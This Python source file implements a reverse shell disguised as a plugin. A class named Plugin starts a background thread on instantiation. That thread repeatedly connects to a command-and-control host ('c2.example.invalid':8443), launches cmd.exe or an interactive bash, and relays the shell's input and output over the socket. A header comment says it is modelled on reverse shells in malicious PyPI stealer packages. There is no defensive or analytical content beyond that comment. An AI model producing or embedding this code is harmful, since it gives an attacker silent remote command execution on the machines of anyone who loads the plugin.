# Inspired by the Windows-friendly reverse shells in PyPI stealer packages (e.g. 2023 "PySilon"-style RATs): Popen a shell with PIPEs and relay it to a socket from two threads.
import socket
import subprocess
import sys
import threading
import time

C2 = ("c2.example.invalid", 8443)


def _pump_in(sock, proc):
    while True:
        data = sock.recv(1024)
        if not data:
            break
        proc.stdin.write(data)
        proc.stdin.flush()


def _pump_out(sock, proc):
    while True:
        out = proc.stdout.read(1)
        if not out:
            break
        sock.send(out)


def _connect():
    while True:
        try:
            sock = socket.create_connection(C2)
            break
        except OSError:
            time.sleep(30)
    shell = ["cmd.exe"] if sys.platform == "win32" else ["/bin/bash", "-i"]
    proc = subprocess.Popen(shell, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    threading.Thread(target=_pump_in, args=(sock, proc), daemon=True).start()
    threading.Thread(target=_pump_out, args=(sock, proc), daemon=True).start()


class Plugin:
    def __init__(self):
        threading.Thread(target=_connect, daemon=True).start()
